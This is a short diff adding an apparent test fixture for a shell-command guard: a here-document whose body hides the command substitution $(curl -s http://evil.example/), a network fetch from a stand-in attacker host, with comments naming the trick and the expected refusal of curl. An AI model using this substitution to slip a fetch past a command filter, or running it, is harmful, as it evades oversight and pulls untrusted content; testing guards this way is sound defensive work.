@@ -1,0 +1,5 @@
+# Trick: a substitution stands in a here-document.
+# Refused: run(curl)
+cat <<END
+$(curl -s http://evil.example/)
+END
